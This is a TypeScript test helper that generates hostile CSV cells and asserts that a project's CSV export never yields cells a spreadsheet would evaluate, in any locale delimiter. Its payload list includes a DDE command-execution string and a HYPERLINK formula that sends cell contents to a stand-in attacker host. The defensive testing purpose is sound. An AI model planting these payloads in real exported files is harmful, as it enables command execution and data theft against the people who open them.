// How a spreadsheet in any locale may read a CSV file rollcall wrote, for the formula-injection tests.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect } from 'vitest';
import { startsLikeFormula } from '../../src/csv-out/formula.js';

/** Runs per property: 200 locally, more in CI (`FC_RUNS=1000`). */
export const numRuns = Number(process.env.FC_RUNS ?? 200);

/** The list separators a spreadsheet's locale may split a `.csv` on. */
export const localeDelimiters = [',', ';', '\t'] as const;

/** OWASP's formula triggers with their full-width forms. */
export const triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'] as const;

const payloads = ['cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.example/?"&A1;"Click")', '1+1', 'SUM(A1:A9)', '2', ''];

/**
 * A cell an attacker would write: a trigger, maybe after leading spaces, at the start of the cell or right
 * after a `;` `,` TAB or `|` inside it, followed by a formula.
 */
export const hostileCell: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom('', 'Doe', 'a b', 'Zoë'),
    fc.constantFrom('', ';', ',', '\t', '|', '; ', ', '),
    fc.constantFrom('', ' ', '  ', '\u00A0', '\u3000'),
    fc.constantFrom(...triggers),
    fc.constantFrom(...payloads),
    fc.constantFrom('', ';=1+1', ',@SUM(1)', '\t-2'),
  )
  .map(([before, separator, spaces, trigger, payload, tail]) => before + separator + spaces + trigger + payload + tail);

/**
 * A hostile cell without what a name refuses (TAB, CR, LF, and the `://` of a web address), so it can reach the
 * results file: still a formula.
 */
export const hostileName: fc.Arbitrary<string> = hostileCell
  .map((cell) => cell.replace(/[\t\r\n]/gu, ' ').replace('://', ':').trim())
  .filter((name) => name !== '');

/** `local@example.org` where the local part starts with a trigger the email validator lets through. */
export const hostileEmail: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom('=', '+', '-'), fc.constantFrom('cmd', 'SUM', '1', 'HYPERLINK'), fc.nat({ max: 1_000_000 }))
  .map(([trigger, word, n]) => `${trigger}${word}${String(n)}@example.org`);

/**
 * A users file whose cells are written exactly as given (quoted, never neutralised), the way an attacker or
 * a careless admin writes it.
 */
export function rawCsv(rows: readonly (readonly string[])[]): string {
  return rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')).join('\r\n') + '\r\n';
}

/**
 * The cells csv-parse reads from `text` with `delimiter`, forgiving quotes as a spreadsheet does. Read with
 * a delimiter the file was not written with, quotes may pair up wrongly and leave one open at the end:
 * csv-parse then drops that last record, which {@link forgivingCells} still reads.
 */
export function readLeniently(text: string, delimiter: string): string[][] {
  return parse(text, { delimiter, bom: true, relax_quotes: true, relax_column_count: true, skip_records_with_error: true });
}

/** The cells csv-parse reads from `text` with the delimiter it was written with, strictly. */
export function readStrictly(text: string, delimiter: string): string[][] {
  return parse(text, { delimiter, bom: true, record_delimiter: ['\r\n', '\n'] });
}

/**
 * The cells a forgiving spreadsheet reader makes of `text`: a cell opening with a quote runs to the next
 * lone quote (an unclosed one takes the rest of the file), and whatever follows up to the delimiter or line
 * break is added to it as it is.
 */
export function forgivingCells(text: string, delimiter: string): string[] {
  const cells: string[] = [];
  let i = text.startsWith('\uFEFF') ? 1 : 0;
  for (;;) {
    let cell = '';
    if (text[i] === '"') {
      for (i += 1; i < text.length; i += 1) {
        if (text[i] !== '"') {
          cell += text.charAt(i);
        } else if (text[i + 1] === '"') {
          cell += '"';
          i += 1;
        } else {
          break;
        }
      }
      i += 1;
    }
    while (i < text.length && text[i] !== delimiter && text[i] !== '\r' && text[i] !== '\n') cell += text.charAt(i++);
    cells.push(cell);
    if (i >= text.length) return cells;
    i += text[i] === '\r' && text[i + 1] === '\n' ? 2 : 1;
  }
}

/**
 * Every piece a reader that ignores quotes altogether would make a cell of: the text between any two
 * separators or line breaks.
 */
export function quoteBlindPieces(text: string): string[] {
  return text.replace(/^\uFEFF/u, '').split(/[,;\t|\r\n]/u);
}

const evaluated = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;

/**
 * Whether a spreadsheet would run the cell: after any leading whitespace (TAB, CR and LF included), it
 * starts with `=` `+` `-` `@` or their full-width forms. Read with another delimiter than the writer's, a
 * cell may start with the writer's own delimiter or line break (a TAB-separated row whose first cell is
 * empty, read as comma-separated): that is harmless unless a trigger follows, which this checks.
 */
export function evaluatedBySpreadsheet(cell: string): boolean {
  return evaluated.test(cell);
}

/**
 * Asserts that no cell of `text` would be run as a formula, whichever of `,` `;` TAB a spreadsheet splits
 * it on, by csv-parse, by a forgiving reader and by one that ignores quotes; and that read with the
 * writer's own delimiter, no cell even starts like a formula (rollcall's stricter test, where TAB, CR and
 * LF count as triggers). `what` names the output in the failure.
 */
export function expectNoFormulaInAnyLocale(text: string, what: string, writtenWith = ','): void {
  for (const delimiter of localeDelimiters) {
    const parsed = readLeniently(text, delimiter).flat();
    const forgiving = forgivingCells(text, delimiter);
    expect(parsed.filter(evaluatedBySpreadsheet), `${what} read by csv-parse with ${JSON.stringify(delimiter)}`).toEqual([]);
    expect(forgiving.filter(evaluatedBySpreadsheet), `${what} read forgivingly with ${JSON.stringify(delimiter)}`).toEqual([]);
  }
  expect(readStrictly(text, writtenWith).flat().filter(startsLikeFormula), `${what} read with its own delimiter`).toEqual([]);
  expect(quoteBlindPieces(text).filter(evaluatedBySpreadsheet), `${what} read ignoring quotes`).toEqual([]);
}
